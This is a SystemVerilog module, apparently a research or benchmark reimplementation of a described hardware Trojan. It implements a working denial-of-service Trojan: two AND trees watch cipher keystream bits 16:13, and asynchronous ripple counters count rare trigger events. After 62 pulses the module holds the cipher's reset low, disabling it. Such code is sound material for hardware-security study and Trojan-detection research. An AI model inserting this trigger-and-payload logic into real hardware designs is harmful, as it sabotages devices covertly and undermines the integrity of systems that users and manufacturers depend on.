// trojan3: hardware Trojan with two AND trees and two asynchronous counters.
//
// The first AND tree fires while keystream bits 16:13 are 4'b1111; each
// rising edge of its output clocks counter1, a 4-bit ripple counter. Its
// bit 0 is tmp_load, which rises on every second activation. The second AND
// tree combines tmp_load with three internal bits (counter1's bits 3:1), so
// it fires once every 16 activations; its rising edges clock counter2. When
// counter2 has seen THRESHOLD (62) pulses it stops and holds rst_n_out low,
// keeping the cipher in reset (denial of service). Both counters are cleared
// asynchronously by the external reset rst_n_in (active low) only.
//
// The two trees, the two asynchronous counters, tmp_load, bits 13-16 and the
// count of 62 follow the Trojan's description. Which three internal bits are
// combined with tmp_load is not specified; counter1's upper bits are this
// design's choice.
module trojan3 #(
  parameter int unsigned THRESHOLD = 62
) (
  input  logic [31:0] z,
  input  logic        rst_n_in,
  output logic        rst_n_out,
  output logic        trigger
);

  timeunit 1ns;
  timeprecision 1ps;

  localparam int unsigned CW2 = $clog2(THRESHOLD + 1);

  logic           tree1, tree2, tmp_load, clr;
  logic [3:0]     counter1;
  logic [CW2-1:0] counter2;

  assign clr      = ~rst_n_in;
  assign tree1    = &z[16:13];
  assign tmp_load = counter1[0];
  assign tree2    = tmp_load & (&counter1[3:1]);
  assign trigger  = (counter2 == CW2'(THRESHOLD));

  ripple_counter #(.WIDTH(4)) u_counter1 (
    .pulse(tree1),
    .clr  (clr),
    .count(counter1)
  );

  ripple_counter #(.WIDTH(CW2)) u_counter2 (
    .pulse(tree2 & ~trigger),
    .clr  (clr),
    .count(counter2)
  );

  assign rst_n_out = rst_n_in & ~trigger;

endmodule
